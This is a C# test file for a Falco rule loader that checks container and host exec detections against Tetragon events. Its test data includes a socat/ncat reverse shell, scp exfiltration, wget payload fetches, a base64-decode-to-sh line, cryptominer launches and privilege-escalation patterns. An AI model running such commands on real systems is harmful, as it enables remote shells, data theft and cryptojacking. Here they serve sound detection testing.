using static ZtStream.Verifier.Tests.Rules.Falco.FalcoSyscallTestData;

namespace ZtStream.Verifier.Tests.Rules.Falco;

/// <summary>
/// falcosecurity/rules' <c>falco-incubating_rules.yaml</c> and <c>falco-sandbox_rules.yaml</c>, as shipped, loaded after
/// <c>falco_rules.yaml</c> as Falco's <c>-r</c> options load them: which rules ZtStream evaluates on Tetragon's execs,
/// each refusal naming its rule and why, and the exec rules firing through Ingest's Tetragon mapper beside their near misses.
/// </summary>
public sealed class FalcoSyscallOtherFilesTests
{
    private static readonly Lazy<(RuleLoadResult Result, IReadOnlyList<string> Disabled)> Loaded = new(() =>
        (FalcoRuleLoader.Load([StockFile(), RulesFile(IncubatingRules), RulesFile(SandboxRules)], out var disabled), disabled));

    private static readonly Lazy<RuleLoadResult> All = new(() => Loaded.Value.Result);

    private static bool Fires(string rule, string line) => Assert.Single(All.Value.Rules, r => r.Id == rule).Condition.Matches(Event(line));

    [Fact]
    public void ThreeFiles_LoadTheExecRules_AndRefuseEveryOtherNamingItAndWhy()
    {
        var result = All.Value;

        Assert.Equal(
        [
            "Directory traversal monitored file read", "Read sensitive file untrusted", "System user interactive", "Netcat Remote Code Execution in Container",
            "Search Private Keys or Passwords", "Clear Log Activities", "Remove Bulk Data from Disk", "Create Symlink Over Sensitive Files", "Create Hardlink Over Sensitive Files", "Packet socket created in container",
            "Linux Kernel Module Injection Detected", "Detect release_agent File Container Escapes", "PTRACE attached to process", "PTRACE anti-debug attempt", "Find AWS Credentials",
            "Modify Shell Configuration File", "Schedule Cron Jobs", "Read ssh information", "DB program spawned process",
            "Change namespace privileges via unshare", "Launch Excessively Capable Container", "System procs network activity",
            "Unexpected UDP Traffic", "Create files below dev", "Contact EC2 Instance Metadata Service From Container", "Contact cloud metadata service from container",
            "Launch Package Management Process in Container", "Launch Suspicious Network Tool in Container", "Launch Suspicious Network Tool on Host",
            "Delete or rename shell history", "Set Setuid or Setgid bit", "Launch Remote File Copy Tools in Container", "Network Connection outside Local Subnet",
            "Launch Ingress Remote File Copy Tools in Container", "Read environment variable from /proc files", "Update Package Repository",
            "Write below binary dir", "Write below monitored dir", "Write below rpm database", "Modify binary dirs", "Mkdir binary dirs", "Launch Disallowed Container",
            "Detect crypto miners using the Stratum protocol", "Kubernetes Client Tool Launched in Container", "Sudo Potential Privilege Escalation",
            "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", "Decoding Payload in Container", "Netcat/Socat Remote Code Execution on Host",
            "Network Tool Executed During NPM Package Install", "Known Cryptominer Process Executed", "Web Server Spawned Shell",
            "Web Server Spawned Suspicious Child Process", "Reverse Shell from Web Server", "Privileged Container Device Access",
            "Container Access to Host Sensitive Paths",
        ], result.Rules.Select(r => r.Id));

        // The file and network rules read Tetragon's policy calls too, and Schedule Cron Jobs its file half
        // (FalcoSyscallCallRuleTests), the rules on an open's flags the opens (FalcoOpenCallRuleTests); the exec rules execs alone.
        Assert.Equal(31, result.Rules.Count(r => r.Kinds.Contains(EventKinds.RuntimeAlert)));

        // 25 + 27 + 37 rules: seven load disabled, as shipped; every one not loaded is an error naming it, its file and line, and the reason.
        Assert.Equal(
            [
                "Read Shell Configuration File", "Interpreted procs outbound network activity", "Unexpected K8s NodePort Connection", "Create Hidden Files or Directories",
                "Container Drift Detected (open+create)", "Container Run as Root User", "Modify Container Entrypoint",
            ],
            Loaded.Value.Disabled);
        Assert.Equal(89 - 55 - 7, result.Errors.Count);
        Assert.All(result.Errors, e => Assert.False(string.IsNullOrEmpty(e.RuleId) || e.Line <= 0 || string.IsNullOrEmpty(e.Reason), e.ToString()));
        Assert.Equal(
            new Dictionary<string, int> { [StockRules] = 10, [IncubatingRules] = 7, [SandboxRules] = 10 },
            result.Errors.GroupBy(e => Path.GetFileName(e.File)).ToDictionary(g => g.Key, g => g.Count()));

        var groups = result.Errors.GroupBy(e => Group(e.Reason)).ToDictionary(g => g.Key, g => g.Count());
        Assert.Equal(new Dictionary<string, int>
        {
            ["another system call"] = 5,
            ["proc.exe"] = 5,
            ["container.privileged"] = 3,
            ["proc.tty"] = 3,
            ["fd.sip.name"] = 2,
            ["proc.env"] = 1,
            ["proc.aexe"] = 1,
            ["container.mount.dest"] = 1,
            ["fd.name"] = 1,
            ["proc.duration"] = 1,
            ["proc.pexe"] = 1,
            ["evt.arg.uid"] = 1,
            ["proc.is_exe_upper_layer"] = 1,
            ["proc.is_exe_from_memfd"] = 1,
        }, groups);

        Assert.Contains(result.Errors, e => e.RuleId == "Change thread namespace" && e.Reason.Contains("in macro 'java_running_sdjagent'", StringComparison.Ordinal) && e.Reason.Contains("reads proc.exe,", StringComparison.Ordinal));
        Assert.Contains(result.Errors, e => e.RuleId == "Program run with disallowed http proxy env" && e.Reason.Contains("reads proc.env, which a process exec does not carry", StringComparison.Ordinal));
        Assert.Contains(result.Errors, e => e.RuleId == "User mgmt binaries" && e.Reason.Contains("in macro 'run_by_sumologic_securefiles'", StringComparison.Ordinal) && e.Reason.Contains("reads proc.aexe,", StringComparison.Ordinal));

        static string Group(string reason)
        {
            if (reason.Contains("is never true on a system call", StringComparison.Ordinal))
            {
                return "another system call";
            }

            var at = reason.IndexOf("reads ", StringComparison.Ordinal) + "reads ".Length;
            return reason[at..reason.IndexOf(',', at)];
        }
    }

    [Fact]
    public void ALaterFile_UsesAndOverridesTheMacrosAndListsOfTheOthers()
    {
        // A local file defines none of what it uses: spawned_process, container and network_tool_binaries come from the stock files.
        var local = ("local_rules.yaml", """
            - macro: user_known_network_tool_activities
              condition: (k8s.ns.name = netops)
            - rule: Network tool by a user
              desc: x
              condition: spawned_process and container and proc.name in (network_tool_binaries) and user.uid >= 1000
              output: "%proc.cmdline"
              priority: NOTICE
            """);
        var result = FalcoTestData.Load(StockFile(), RulesFile(IncubatingRules), RulesFile(SandboxRules), local);
        var own = Assert.Single(result.Rules, r => r.Id == "Network tool by a user");
        var stock = Assert.Single(result.Rules, r => r.Id == "Launch Suspicious Network Tool in Container");

        Assert.True(own.Condition.Matches(Event(Exec("/usr/bin/nmap", "-sS 10.0.0.0/24", Pod(), uid: 1000, user: "ops"))));
        Assert.False(own.Condition.Matches(Event(Exec("/usr/bin/nmap", "-sS 10.0.0.0/24", Pod()))));

        // The local override of the stock rule's tuning macro applies to the stock rule.
        Assert.True(stock.Condition.Matches(Event(Exec("/usr/bin/nmap", "-sS 10.0.0.0/24", Pod()))));
        Assert.False(stock.Condition.Matches(Event(Exec("/usr/bin/nmap", "-sS 10.0.0.0/24", Pod(ns: "netops")))));
    }

    public static TheoryData<string, string, string, bool> Execs => new()
    {
        { "Schedule Cron Jobs", "crontab installing a file on the host", Exec("/usr/bin/crontab", "/tmp/.x.cron", uid: 1000, user: "alice"), true },
        { "Schedule Cron Jobs", "the cron daemon itself", Exec("/usr/sbin/cron", "-f"), false },
        { "DB program spawned process", "mysqld starting a shell", Exec("/bin/sh", "-c id", Pod(), parent: "\"binary\":\"/usr/sbin/mysqld\",\"pid\":300"), true },
        { "DB program spawned process", "postgres archiving with wal-e, its quoted command read as argv", Exec("/bin/sh", "-c \"envdir /etc/wal-e.d/env /usr/local/bin/wal-e wal-push pg_wal/000000010000000000000001\"", Pod(), parent: "\"binary\":\"/usr/lib/postgresql/16/bin/postgres\",\"pid\":300"), false },
        { "DB program spawned process", "mysqld without a parent that is one", Exec("/bin/sh", "-c id", Pod()), false },
        { "Launch Suspicious Network Tool in Container", "nmap in a pod", Exec("/usr/bin/nmap", "-sS 10.0.0.0/24", Pod()), true },
        { "Launch Suspicious Network Tool in Container", "nmap on the host", Exec("/usr/bin/nmap", "-sS 10.0.0.0/24"), false },
        { "Launch Suspicious Network Tool on Host", "tcpdump on the host", Exec("/usr/sbin/tcpdump", "-i any -w /tmp/c.pcap"), true },
        { "Launch Suspicious Network Tool on Host", "tcpdump in a pod", Exec("/usr/sbin/tcpdump", "-i any -w /tmp/c.pcap", Pod()), false },
        { "Launch Remote File Copy Tools in Container", "scp out of a pod", Exec("/usr/bin/scp", "/app/db.sqlite ops@203.0.113.9:/tmp", Pod()), true },
        { "Launch Remote File Copy Tools in Container", "cp in a pod", Exec("/bin/cp", "/app/db.sqlite /tmp", Pod()), false },
        { "Launch Ingress Remote File Copy Tools in Container", "wget in a pod", Exec("/usr/bin/wget", "-q http://198.51.100.23/x", Pod()), true },
        { "Launch Ingress Remote File Copy Tools in Container", "curl writing a file in a pod", Exec("/usr/bin/curl", "-s -o /tmp/x http://198.51.100.23/x", Pod()), true },
        { "Launch Ingress Remote File Copy Tools in Container", "curl to stdout in a pod", Exec("/usr/bin/curl", "-s http://config:8080/v1/flags", Pod()), false },
        { "Detect crypto miners using the Stratum protocol", "a renamed miner given a stratum pool", Exec("/tmp/.k/kworker", "-o stratum+tcp://pool.example.net:3333 -u wallet", Pod()), true },
        { "Detect crypto miners using the Stratum protocol", "curl to a host named stratum", Exec("/usr/bin/curl", "https://stratum.example.com/status", Pod()), false },
        { "Kubernetes Client Tool Launched in Container", "kubectl in an application pod", Exec("/usr/local/bin/kubectl", "get secrets -A", Pod()), true },
        { "Kubernetes Client Tool Launched in Container", "the known fluentd scaler in kube-system", Exec("/usr/local/bin/kubectl", "scale ds fluentd --replicas=3", Pod(ns: "kube-system", name: "fluentd-gcp-scaler-1", image: "registry.k8s.io/fluentd-gcp-scaler:0.5.2", container: "scaler")), false },
        { "Kubernetes Client Tool Launched in Container", "kubectl on the host", Exec("/usr/local/bin/kubectl", "get pods"), false },
        { "Sudo Potential Privilege Escalation", "sudoedit -s ending in a backslash, by a user, no set-user-ID applied", Exec("/usr/bin/sudoedit", "-s \\", uid: 1000, user: "alice"), true },
        { "Sudo Potential Privilege Escalation", "the same with sudoedit's set-user-ID applied: its effective uid is root's", Exec("/usr/bin/sudoedit", "-s \\", uid: 1000, user: "alice", extra: ",\"binary_properties\":{\"setuid\":0}"), false },
        { "Sudo Potential Privilege Escalation", "sudo -i without the backslash", Exec("/usr/bin/sudo", "-i", uid: 1000, user: "alice"), false },
        { "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", "pkexec without arguments by a user", Exec("/usr/bin/pkexec", uid: 1000, user: "alice"), true },
        { "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", "pkexec with a command", Exec("/usr/bin/pkexec", "/usr/bin/id", uid: 1000, user: "alice"), false },
        { "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", "pkexec without arguments by root", Exec("/usr/bin/pkexec"), false },
        { "Decoding Payload in Container", "base64 -d in a pod", Exec("/usr/bin/base64", "-d /tmp/p.b64", Pod()), true },
        { "Decoding Payload in Container", "a shell decoding and running a payload, as Tetragon quotes it", Exec("/bin/sh", "-c \"echo aWQK | base64 --decode | sh\"", Pod()), true },
        { "Decoding Payload in Container", "base64 encoding in a pod", Exec("/usr/bin/base64", "/etc/hostname", Pod()), false },
        { "Decoding Payload in Container", "base64 -d on the host", Exec("/usr/bin/base64", "-d /tmp/p.b64"), false },
        { "Netcat/Socat Remote Code Execution on Host", "socat giving a shell on the host", Exec("/usr/bin/socat", "TCP:203.0.113.5:4444 EXEC:/bin/bash"), true },
        { "Netcat/Socat Remote Code Execution on Host", "ncat --sh-exec on the host", Exec("/usr/bin/ncat", "--sh-exec /bin/sh 203.0.113.5 4444"), true },
        { "Netcat/Socat Remote Code Execution on Host", "socat giving a shell in a pod", Exec("/usr/bin/socat", "TCP:203.0.113.5:4444 EXEC:/bin/bash", Pod()), false },
        { "Netcat/Socat Remote Code Execution on Host", "socat forwarding a port on the host", Exec("/usr/bin/socat", "TCP-LISTEN:8080,fork TCP:10.0.0.5:80"), false },
        { "Known Cryptominer Process Executed", "xmrig dropped in /tmp", Exec("/tmp/xmrig", "--donate-level 1", Pod()), true },
        { "Known Cryptominer Process Executed", "a proxy whose name only starts like a miner", Exec("/usr/local/bin/xmrig-proxy", "--bind 0.0.0.0:3333"), false },
    };

    [Theory]
    [MemberData(nameof(Execs))]
    public void ExecRules_FireOnTheExecTheyDescribe_AndNotOnTheNearMiss(string rule, string because, string line, bool fires) =>
        Assert.True(fires == Fires(rule, line), because);

    [Fact]
    public void ContainerStarted_IsAContainersFirstProcess_ByItsPidInTheContainer()
    {
        // The sandbox file's "Launch Disallowed Container" allows every container as shipped; a site lists its images.
        var local = ("local_rules.yaml", """
            - macro: allowed_containers
              condition: (container.image.repository in (registry.example.com/payments/checkout))
            """);
        var rule = Assert.Single(FalcoTestData.Load(StockFile(), RulesFile(IncubatingRules), RulesFile(SandboxRules), local).Rules, r => r.Id == "Launch Disallowed Container");
        var unknown = Pod(image: "docker.io/attacker/tools:1");

        Assert.True(rule.Condition.Matches(Event(Exec("/usr/bin/tini", "-- /run.sh", unknown.Replace("\"pid\":17", "\"pid\":1", StringComparison.Ordinal), parent: null))));
        Assert.False(rule.Condition.Matches(Event(Exec("/usr/bin/tini", "-- /run.sh", unknown, parent: null))));
        Assert.False(rule.Condition.Matches(Event(Exec("/usr/bin/tini", "-- /run.sh", Pod().Replace("\"pid\":17", "\"pid\":1", StringComparison.Ordinal), parent: null))));
        Assert.False(Assert.Single(All.Value.Rules, r => r.Id == "Launch Disallowed Container").Condition.Matches(
            Event(Exec("/usr/bin/tini", "-- /run.sh", unknown.Replace("\"pid\":17", "\"pid\":1", StringComparison.Ordinal), parent: null))));
    }

    [Fact]
    public void IncubatingRule_Output_IsFalcosWithTheDecodedCommandLine()
    {
        var rule = (FalcoRuleMatcher)Assert.Single(All.Value.Rules, r => r.Id == "Decoding Payload in Container").Condition;

        Assert.Equal(
            "Decoding Payload in Container | evt_type=execve user=root user_uid=0 user_loginuid=-1 process=sh proc_exepath=/bin/sh parent=bash command=sh -c echo aWQK | base64 --decode | sh terminal=<NA> exe_flags=<NA>",
            rule.RenderOutput(Event(Exec("/bin/sh", "-c \"echo aWQK | base64 --decode | sh\"", Pod()))));
    }
}
